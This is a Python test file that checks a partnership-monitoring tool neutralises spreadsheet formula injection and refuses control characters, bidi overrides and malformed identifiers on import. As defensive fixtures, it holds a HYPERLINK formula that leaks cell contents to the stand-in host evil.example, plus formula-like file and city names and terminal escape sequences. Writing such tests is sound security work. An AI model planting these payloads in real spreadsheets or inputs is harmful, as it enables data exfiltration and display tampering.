"""Issue 22, "injection into files we write" and identities: one test per defect, named after it.

Every CSV and XLSX the tool writes neutralises text a spreadsheet would run; imports refuse control
characters in names and ids; participant codes are one person whatever their case; round ids and dates
are checked; a malformed disaggregation is a finding, never a new series.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json

import polars as pl
import pytest
from openpyxl import load_workbook

from c2c_monitor.ingest.partnerships import TEMPLATE

from .conftest import run_c2c, sql
from .test_ingest import state

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
STARTERS = ("=", "+", "-", "@", "\t", "\r")


def _partnerships(tmp_path, row: list[str], name: str = "p.csv"):
    path = tmp_path / name
    with path.open("w", newline="", encoding="utf-8") as fh:
        csv.writer(fh).writerows([TEMPLATE[0], row])
    return path


ROW = ["lyon-2", "Lyon – Porto-Novo II", "lyon", "Lyon", "France", "522000", "porto-novo", "Porto-Novo", "Benin",
       "264000", "Water", "6,11", "2024", "250000", "Second phase"]


def _no_live_formula(path) -> list[tuple[str, str, object]]:
    """Every cell of every sheet that a spreadsheet would run: a formula, or text starting like one."""
    wb = load_workbook(path)
    bad = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if c.data_type == "f" or (isinstance(c.value, str) and c.value.startswith(STARTERS)):
                    bad.append((ws.title, c.coordinate, c.value))
    return bad


def test_city_named_hyperlink_formula_is_text_in_the_xlsform(demo_copy, tmp_path) -> None:
    row = ROW.copy()
    row[6:8] = ["evil-town", HYPERLINK]  # a new partner city, named like a formula
    assert run_c2c("partnerships", "import", str(_partnerships(tmp_path, row)), "-w", str(demo_copy)).returncode == 0
    form = tmp_path / "form.xlsx"
    res = run_c2c("workshop", "xlsform", "-w", str(demo_copy), "-p", "lyon-2", "-o", str(form))
    assert res.returncode == 0, res.stderr
    assert _no_live_formula(form) == []
    choices = load_workbook(form)["choices"]
    names = [(r[1].value, r[2].value, r[2].data_type) for r in choices.iter_rows(min_row=2) if r[0].value == "city"]
    assert ("evil-town", "'" + HYPERLINK, "s") in names


def test_file_named_like_a_formula_is_neutralised_in_data_history_csv(demo_copy, tmp_path) -> None:
    out = tmp_path / "sheets"
    assert run_c2c("workshop", "template", "bonn-cape-coast", "-w", str(demo_copy), "--participants", "1",
                   "-o", str(out)).returncode == 0
    sheet = pl.read_csv(out / "bonn-cape-coast-ratings.csv", infer_schema=False)
    sheet = sheet.with_columns(pl.lit("3").alias("rating"))
    name = "=1+2.csv"  # the vintage log keeps the file's name as it was given
    sheet.write_csv(tmp_path / name)
    res = run_c2c("workshop", "import", name, "-w", str(demo_copy), "-p", "bonn-cape-coast", "--round", "r9",
                  "--held-on", "2025-01-10", cwd=tmp_path)
    assert res.returncode == 0, res.stderr
    text = run_c2c("data", "history", "-w", str(demo_copy), "--format", "csv").stdout
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    assert any(name in c for c in cells)  # the file's name is in the log ...
    assert not [c for c in cells if c.startswith(STARTERS)]  # ... and nothing a spreadsheet would run


def test_ratings_template_and_ingest_template_cells_are_typed_text(demo_copy, tmp_path) -> None:
    from c2c_monitor.definitions.principles import load_framework
    from c2c_monitor.store.workspace import open_workspace
    from c2c_monitor.workshop.sheets import write_template

    # A city id can only be a plain slug through `partnerships import`; written straight into the store here,
    # to show the template writer does not rely on that.
    sql(demo_copy, "UPDATE cities SET city_id = ? WHERE city_id = 'cape-coast'", ["@SUM(1+1)"])
    sql(demo_copy, "UPDATE partnerships SET partner_city_id = ? WHERE partner_city_id = 'cape-coast'", ["@SUM(1+1)"])
    with open_workspace(demo_copy) as ws:
        paths = write_template(ws.con, load_framework(), "bonn-cape-coast", tmp_path / "t", 1, "en")
    xlsx = next(p for p in paths if p.suffix == ".xlsx")
    assert _no_live_formula(xlsx) == []
    lists = load_workbook(xlsx)["lists"]
    assert "'@SUM(1+1)" in [c.value for c in lists["C"]]
    assert run_c2c("ingest", "template", "-o", str(tmp_path / "d.xlsx")).returncode == 0
    assert _no_live_formula(tmp_path / "d.xlsx") == []


@pytest.mark.parametrize(("column", "value"), [
    ("partner_city_name", "Porto\x1b[2J-Novo"),  # a terminal escape
    ("name", "Lyon\x08"),  # a backspace (a NUL makes the whole file binary, refused before)
    ("european_country", "Fra\u0085nce"),  # C1 next line
    ("description", "ok\x07bell"),
])
def test_control_characters_in_partnership_names_are_refused(demo_copy, tmp_path, column, value) -> None:
    row = ROW.copy()
    row[TEMPLATE[0].index(column)] = value
    before = state(demo_copy)
    report = tmp_path / "r.json"
    res = run_c2c("partnerships", "import", str(_partnerships(tmp_path, row)), "-w", str(demo_copy),
                  "--report", str(report))
    assert res.returncode == 2 and "Traceback" not in res.stderr
    f = json.loads(report.read_text())["findings"][0]
    assert (f["code"], f["row"], f["column"]) == ("control-character", 2, column)
    assert state(demo_copy) == before


def test_line_breaks_in_a_partnership_description_are_accepted(demo_copy, tmp_path) -> None:
    row = ROW.copy()
    row[-1] = "First line\nsecond\tline"
    res = run_c2c("partnerships", "import", str(_partnerships(tmp_path, row)), "-w", str(demo_copy))
    assert res.returncode == 0, res.stderr


def _sheet(tmp_path, rows: list[tuple[str, str]], name: str = "s.csv"):
    path = tmp_path / name
    pl.DataFrame([{"participant_code": code, "stakeholder_group": "academia", "city_id": "bonn", "question_id": q,
                   "question": "", "rating": "3", "comment": ""} for code, q in rows]).write_csv(path)
    return path


def test_participant_code_with_bidi_override_is_refused(demo_copy, tmp_path) -> None:
    report = tmp_path / "r.json"
    res = run_c2c("workshop", "import", str(_sheet(tmp_path, [("P0\u202e1", "P02.1")])), "-w", str(demo_copy),
                  "-p", "bonn-cape-coast", "--round", "x", "--report", str(report))
    assert res.returncode == 2
    f = json.loads(report.read_text())["findings"][0]
    assert (f["code"], f["row"], f["column"]) == ("control-character", 2, "participant_code")


def test_control_character_in_a_records_id_is_refused(demo_copy, tmp_path) -> None:
    from c2c_monitor.definitions.records import DATASETS

    names = DATASETS["activities"].names
    row = {n: "" for n in names} | {"partnership_id": "bonn-cape-coast", "activity_id": "a\x1b1"}
    path = tmp_path / "a.csv"
    pl.DataFrame([row]).select(names).write_csv(path)
    report = tmp_path / "r.json"
    res = run_c2c("records", "import", "activities", str(path), "-w", str(demo_copy), "--report", str(report))
    assert res.returncode == 2, res.stderr
    codes = [(f["code"], f["row"], f["column"]) for f in json.loads(report.read_text())["findings"]]
    assert ("control-character", 2, "activity_id") in codes


def test_p01_and_lower_case_p01_are_one_person(demo_copy, tmp_path) -> None:
    report = tmp_path / "r.json"
    res = run_c2c("workshop", "import", str(_sheet(tmp_path, [("P01", "P02.1"), (" p01 ", "P02.1")])),
                  "-w", str(demo_copy), "-p", "bonn-cape-coast", "--round", "r9", "--report", str(report))
    assert res.returncode == 2  # the same person rated the same question twice in one sheet
    f = json.loads(report.read_text())["findings"][0]
    assert (f["code"], f["row"]) == ("duplicate-key", 3)
    # One sheet with P01..P03, then a correction of that sheet that spells one of them in lower case: still three.
    first = _sheet(tmp_path, [("P01", "P02.1"), ("P02", "P02.1"), ("P03", "P02.1")], "a.csv")
    assert run_c2c("workshop", "import", str(first), "-w", str(demo_copy), "-p", "bonn-cape-coast",
                   "--round", "r9", "--held-on", "2025-01-10").returncode == 0
    fix = _sheet(tmp_path, [("P01", "P02.1"), ("P02", "P02.1"), ("p03 ", "P02.1")], "b.csv")
    res = run_c2c("workshop", "import", str(fix), "-w", str(demo_copy), "-p", "bonn-cape-coast", "--round", "r9",
                  "--replace", "a")
    assert res.returncode == 0, res.stderr
    from c2c_monitor.store import reads
    from c2c_monitor.store.workspace import open_workspace

    with open_workspace(demo_copy) as ws:
        ratings, _ = reads.round_ratings(ws.con, "bonn-cape-coast", "r9", None)
    assert sorted(ratings["participant_code"].to_list()) == ["P01", "P02", "P03"]


def test_mixed_case_codes_stored_before_are_read_as_one_person(demo_copy) -> None:
    """Sheets loaded before codes were normalised: the newest answer of `p01`/`P01` counts, once."""
    from c2c_monitor.store import reads
    from c2c_monitor.store.workspace import open_workspace

    with open_workspace(demo_copy) as ws:
        pid, rid = ws.con.execute("SELECT partnership_id, round_id FROM ratings LIMIT 1").fetchall()[0]
        before, _ = reads.round_ratings(ws.con, pid, rid, None)
        code, q, vid = ws.con.execute("SELECT participant_code, question_id, vintage_id FROM ratings "
                                      "WHERE partnership_id = ? AND round_id = ? LIMIT 1", [pid, rid]).fetchall()[0]
        ws.con.execute("INSERT INTO ratings SELECT * REPLACE (? AS participant_code, ? AS vintage_id) FROM ratings "
                       "WHERE partnership_id = ? AND round_id = ? AND participant_code = ? AND question_id = ?",
                       [" " + code.lower(), vid + 100000, pid, rid, code, q])
        after, _ = reads.round_ratings(ws.con, pid, rid, None)
    assert after.height == before.height
    assert after["participant_code"].n_unique() == before["participant_code"].n_unique()


@pytest.mark.parametrize(("args", "needle"), [
    (["--round", "2030", "--held-on", (dt.date.today() + dt.timedelta(days=1)).isoformat()], "in the future"),
    (["--round", "   "], "round id is empty"),
    (["--round", ""], "round id is empty"),
])
def test_held_on_in_the_future_and_empty_round_ids_are_refused(demo_copy, tmp_path, args, needle) -> None:
    before = state(demo_copy)
    res = run_c2c("workshop", "import", str(_sheet(tmp_path, [("P01", "P02.1")])), "-w", str(demo_copy),
                  "-p", "bonn-cape-coast", *args)
    assert res.returncode == 2 and needle in res.stderr and "Traceback" not in res.stderr
    assert len(res.stderr.strip().splitlines()) <= 2  # the message, and at most a hint
    assert state(demo_copy) == before


@pytest.mark.parametrize("disagg", ["sex=", "female", "=female", "sex=female|", "sex=a=b"])
def test_malformed_disaggregation_is_a_finding_not_a_new_series(demo_copy, tmp_path, disagg) -> None:
    path = tmp_path / "d.csv"
    path.write_text("indicator,area,period,value,unit,obs_status,disaggregation\n"
                    "unemployment_rate,bonn,2024-Q3,6.1,percent,P,\n"
                    f"unemployment_rate,bonn,2024-Q3,5.8,percent,P,{disagg}\n", encoding="utf-8")
    before = state(demo_copy)
    report = tmp_path / "r.json"
    res = run_c2c("ingest", str(path), "-w", str(demo_copy), "--report", str(report))
    assert res.returncode == 2, res.stderr
    f = json.loads(report.read_text())["findings"][0]
    assert (f["code"], f["row"], f["column"], f["value"]) == ("bad-disaggregation", 3, "disaggregation", disagg)
    assert state(demo_copy) == before
